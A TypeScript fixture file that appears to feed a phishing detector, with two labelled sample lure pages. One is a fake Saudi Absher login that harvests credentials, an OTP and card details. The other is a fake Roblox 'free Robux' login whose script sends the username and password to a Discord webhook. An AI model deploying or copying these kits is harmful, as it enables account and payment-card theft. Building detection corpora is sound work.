import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, msSquares, jsRoute, jsonRoute, pngRoute, textRoute } from '../parts/i-parts.js';

// More credential phishing: Asia / Middle East / Türkiye portals, IPFS-hosted webmail kit, device-code
// lure, QR landing, gaming account.

export const entries: Entry[] = [
  {
  id: 'i-phish-sa-absher-violation-otp',
  label: 'phishing',
  kind: 'gov-kit',
  url: 'https://absher-sa.mokhalafat-pay.com/ar/login',
  body: doc({
    title: 'أبشر - تسجيل الدخول',
    lang: 'ar',
    dir: 'rtl',
    head: `<style>body{margin:0;font-family:Tahoma,Arial;background:#f4f4f4}.h{background:#0b6b3a;color:#fff;padding:14px 30px;font-size:22px;font-weight:bold}.c{max-width:420px;margin:30px auto;background:#fff;padding:26px;border-radius:8px}.m{background:#fdf1e3;padding:10px;border-radius:4px;font-size:14px}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #bbb;border-radius:4px;margin:5px 0 12px}.b{width:100%;background:#0b6b3a;color:#fff;border:0;padding:12px;border-radius:4px;font-size:15px}</style>`,
    body: `<div class="h">أبشر · وزارة الداخلية</div>
<div class="c">
<p class="m">لديك مخالفة مرورية غير مسددة بقيمة <b>500 ريال</b>. سدد الآن واحصل على خصم 50% قبل انتهاء المهلة.</p>
<form id="a"><label>اسم المستخدم أو رقم الهوية</label><input name="u" required><label>كلمة المرور</label><input name="p" type="password" required><button class="b">تسجيل الدخول</button></form>
<p style="font-size:11px;color:#777">جميع الحقوق محفوظة لوزارة الداخلية © 2025</p>
</div>
<script>
document.getElementById('a').onsubmit=function(e){e.preventDefault();fetch('/ar/api/cred',{method:'POST',body:new FormData(this)}).then(function(){
document.querySelector('.c').innerHTML='<h3>رمز التحقق</h3><p>تم إرسال رمز التحقق إلى جوالك المسجل في أبشر.</p><input id="o" maxlength="4"><button class="b" onclick="fetch(\\'/ar/api/otp\\',{method:\\'POST\\',body:o.value}).then(function(){location.href=\\'/ar/pay\\'})">تحقق</button>'})};
</script>`,
  }),
  routes: {
    'absher-sa.mokhalafat-pay.com/ar/api/cred': jsonRoute({ s: 1 }),
    'absher-sa.mokhalafat-pay.com/ar/api/otp': jsonRoute({ s: 1 }),
    'absher-sa.mokhalafat-pay.com/ar/pay': htmlRoute(doc({ title: 'سداد المخالفات', lang: 'ar', dir: 'rtl', body: `<div style="max-width:420px;margin:30px auto;font-family:Tahoma"><h3>سداد المخالفة - 250 ريال</h3><form method="post" action="/ar/api/card"><input name="card" placeholder="رقم البطاقة (مدى / فيزا)"><input name="exp" placeholder="MM/YY"><input name="cvv" placeholder="CVV"><button>ادفع</button></form></div>` })),
  },
},
  {
  id: 'i-phish-roblox-login-free-robux',
  label: 'phishing',
  kind: 'gaming-kit',
  url: 'https://www.roblox.com.gg-users.com/users/1841275503/profile?claim=rbx1700',
  body: doc({
    title: 'Roblox',
    head: `<style>body{margin:0;font-family:'Builder Sans','HCo Gotham SSm',Arial;background:#232527;color:#fff}.n{background:#191b1d;padding:10px 20px;font-weight:900;font-size:20px}.c{max-width:380px;margin:40px auto;text-align:center}.r{background:#393b3d;border-radius:8px;padding:14px;margin-bottom:18px}input{width:100%;box-sizing:border-box;background:#191b1d;border:1px solid #4d4f51;border-radius:8px;padding:12px;color:#fff;margin-bottom:10px;font-size:15px}.b{width:100%;background:#335fff;color:#fff;border:0;border-radius:8px;padding:12px;font-size:16px;font-weight:600}</style>`,
    body: `<div class="n">ROBLOX</div>
<div class="c">
<div class="r">🎁 <b>1,700 Robux</b> gift from <b>@Builderman_Official</b><br><small>Log in to claim. Gift expires in 10 minutes.</small></div>
<h2>Log in to Roblox</h2>
<form id="l"><input name="username" placeholder="Username/Email/Phone" required><input name="password" type="password" placeholder="Password" required><button class="b">Log In</button></form>
<p style="font-size:13px;color:#bbb">Forgot Password or Username?</p>
</div>
<script>document.getElementById('l').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));
fetch('https://discord.com/api/webhooks/1322114798233116732/rbx-claims-a8Hq2',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({username:'RBX Logger',embeds:[{title:'New hit',fields:[{name:'user',value:d.username},{name:'pass',value:d.password}]}]})}).catch(function(){});
document.querySelector('.c').innerHTML='<h2>2-Step Verification</h2><p>Enter the code we just sent you via email.</p><input id="c" maxlength="6"><button class="b" onclick="this.textContent=\\'Verifying...\\'">Verify</button>'};</script>`,
  }),
},
];
